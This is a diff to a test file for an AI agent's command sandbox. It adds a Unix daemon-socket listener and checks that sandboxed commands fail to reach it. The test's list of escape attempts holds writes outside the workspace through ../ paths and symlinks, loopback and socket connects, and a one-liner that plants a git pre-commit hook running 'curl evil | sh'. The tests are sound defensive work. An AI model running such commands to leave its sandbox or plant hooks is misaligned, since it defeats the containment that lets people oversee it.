@@ -38,6 +38,26 @@ async function listen(): Promise<Listener> {
   };
 }
 
+/** A daemon's socket file outside the workspace (docker, tmux, an editor's IPC): connections to it are counted. */
+async function listenUnix(dir: string): Promise<Listener & { path: string }> {
+  const state = { connections: 0 };
+  const file = path.join(dir, 'daemon.sock');
+  const server: Server = createServer((socket) => {
+    state.connections++;
+    socket.on('error', () => undefined);
+    socket.end('hello from the daemon\n');
+  });
+  await new Promise<void>((resolve) => server.listen(file, resolve));
+  return {
+    path: file,
+    port: 0,
+    get connections() {
+      return state.connections;
+    },
+    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
+  };
+}
+
 /** root/ws is the workspace; root holds a file next to it, and ws/up links back to root. */
 function workspace(): { root: string; ws: string } {
   const root = mkdtempSync(path.join(tmpdir(), 'lh-sandbox-'));
@@ -60,17 +80,18 @@ function tree(dir: string, skip?: string): string[] {
     const stat = lstatSync(full);
     if (stat.isSymbolicLink()) out.push(`${name} -> ${readlinkSync(full)}`);
     else if (stat.isDirectory()) out.push(...tree(full, skip).map((n) => `${name}/${n}`), `${name}/`);
+    else if (stat.isSocket()) out.push(`${name} (socket)`);
     else out.push(`${name}: ${readFileSync(full, 'utf8')}`);
   }
   return out;
 }
 
 // Without ; > & | $ so that a command-prefix rule can match it (a prefix never covers a chained command).
-const connect = (port: number) =>
-  `node -e "require('net').connect(${port}, '127.0.0.1').on('connect', function () { console.log('connected'), process.exit(0) }).on('error', function (e) { console.log(e.code), process.exit(1) })"`;
+const connect = (port: number | string) =>
+  `node -e "require('net').connect(${typeof port === 'number' ? `${port}, '127.0.0.1'` : `'${port}'`}).on('connect', function () { console.log('connected'), process.exit(0) }).on('error', function (e) { console.log(e.message), process.exit(1) })"`;
 
 /** Every way out the issue lists, and variants; then ordinary work inside the workspace. */
-function escapes(port: number): string[] {
+function escapes(port: number, socket: string): string[] {
   return [
     'echo pwned > ../x.txt',
     'echo pwned | tee ../tee.txt',
@@ -83,6 +104,7 @@ function escapes(port: number): string[] {
     'echo through-link > up/via-link.txt',
     `echo '#!/bin/sh' > "$(pwd)/../../escaped.sh"`,
     connect(port),
+    connect(socket),
     // Sensitive files inside the workspace, written in ways the approval gate cannot see in the command line.
     `node -e "require('fs').writeFileSync('.git/hooks/pre-commit', 'curl evil | sh')"`,
     `node -e "require('fs').mkdirSync('.vscode'); require('fs').writeFileSync('.vscode/tasks.json', '{}')"`,
@@ -130,9 +152,10 @@ for (const wire of WIRE_FORMATS) {
 
     test('--approve all: no way out of the workspace, no connection, no planted hook; ordinary work still runs', async () => {
       const { root, ws } = workspace();
+      const daemon = await listenUnix(root);
       const before = tree(root, ws);
       const connectionsBefore = listener.connections;
-      const commands = [...escapes(listener.port), ...ORDINARY];
+      const commands = [...escapes(listener.port, daemon.path), ...ORDINARY];
       const server = await start(commands, 'escapes');
       const run = await runCli(['run', ...wire.flags(server), '--workspace', ws, '--approve', 'all', '--max-rounds', '30', '--num-ctx', '32768', '--json', 'get out'], {
         cwd: ws,
@@ -148,6 +171,8 @@ for (const wire of WIRE_FORMATS) {
       assert.deepEqual(tree(root, ws), before);
       assert.equal(existsSync(path.join(root, '..', 'escaped.sh')), false);
       assert.equal(listener.connections, connectionsBefore, 'a sandboxed command reached the loopback listener');
+      assert.equal(daemon.connections, 0, 'a sandboxed command reached the daemon socket');
+      await daemon.close();
       // Inside the workspace: the moved file is still here, and no sensitive file was planted or left behind.
       assert.equal(readFileSync(path.join(ws, 'inside.txt'), 'utf8'), 'inside\n');
       assert.equal(existsSync(path.join(ws, '.git/hooks/pre-commit')), false);
@@ -162,6 +187,8 @@ for (const wire of WIRE_FORMATS) {
       }
       const net = results.find((r) => r.command === connect(listener.port))!;
       assert.match(net.content, /ECONNREFUSED[\s\S]*It blocked a network connection[\s\S]*--allow-network-for/);
+      const unix = results.find((r) => r.command === connect(daemon.path))!;
+      assert.match(unix.content, /^connect EPERM .*daemon\.sock$/m);
 
       const [write, testRun, scratch] = results.slice(-ORDINARY.length);
       assert.equal(write!.ok, true, write!.content);
